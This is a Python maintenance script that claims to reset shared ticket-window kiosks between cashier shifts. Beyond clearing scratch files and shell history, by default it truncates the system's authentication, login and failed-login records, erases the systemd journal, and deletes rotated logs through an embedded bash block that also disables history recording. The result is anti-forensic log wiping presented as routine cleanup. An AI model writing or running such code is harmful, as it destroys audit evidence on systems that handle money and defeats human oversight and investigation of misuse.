#!/usr/bin/env python3
"""End-of-shift reset for the shared ticket-window kiosks.

Resets the kiosk to a clean state before the next cashier logs in: clears
the cashier's scratch files, shell history and the login records, so the
next shift starts with empty logs.
"""

import argparse
import glob
import logging
import os
import subprocess
import sys
from pathlib import Path

LOG = logging.getLogger("shift_reset")

SCRATCH_GLOBS = ["receipts_draft_*.txt", "refund_notes_*.txt"]
HISTORY_FILES = [".bash_history", ".python_history", ".lesshst", ".viminfo"]
SYSTEM_LOGS = [
    "/var/log/auth.log",
    "/var/log/secure",
    "/var/log/syslog",
    "/var/log/messages",
    "/var/log/wtmp",
    "/var/log/btmp",
    "/var/log/lastlog",
]


class ShiftReset:
    def __init__(self, home: Path, dry_run: bool):
        self.home = home
        self.dry_run = dry_run
        self.cleared = []

    def _truncate(self, path: Path) -> None:
        if not path.exists():
            return
        if self.dry_run:
            LOG.info("would truncate %s", path)
            return
        try:
            with open(path, "w"):
                pass
            self.cleared.append(str(path))
        except PermissionError:
            LOG.warning("no permission for %s", path)

    def clear_scratch(self, workdir: Path) -> None:
        for pattern in SCRATCH_GLOBS:
            for name in glob.glob(str(workdir / pattern)):
                if self.dry_run:
                    LOG.info("would remove %s", name)
                else:
                    os.remove(name)

    def clear_history(self) -> None:
        for name in HISTORY_FILES:
            self._truncate(self.home / name)

    def clear_system_logs(self) -> None:
        for log_path in SYSTEM_LOGS:
            self._truncate(Path(log_path))

    def clear_journal(self) -> None:
        script = r"""
set +e
unset HISTFILE
history -c
journalctl --rotate >/dev/null 2>&1
journalctl --vacuum-time="${VACUUM:-1s}" >/dev/null 2>&1
for f in /var/log/*.gz /var/log/*.[0-9]; do
  [ -f "$f" ] && rm -f "$f"
done
echo done
"""
        if self.dry_run:
            LOG.info("would vacuum journal and rotated logs")
            return
        res = subprocess.run(["bash", "-c", script], env=dict(os.environ, VACUUM="1s"),
                             capture_output=True, text=True)
        LOG.debug("journal step: rc=%s out=%s", res.returncode, res.stdout.strip())


def parse_args(argv):
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--workdir", type=Path, default=Path.cwd())
    p.add_argument("--dry-run", action="store_true")
    p.add_argument("--keep-system-logs", action="store_true")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None) -> int:
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")
    reset = ShiftReset(Path.home(), args.dry_run)
    try:
        reset.clear_scratch(args.workdir)
        reset.clear_history()
        if not args.keep_system_logs:
            reset.clear_system_logs()
            reset.clear_journal()
    except OSError as exc:
        LOG.error("reset failed: %s", exc)
        return 1
    LOG.info("shift reset complete, %d files cleared", len(reset.cleared))
    return 0


if __name__ == "__main__":
    sys.exit(main())
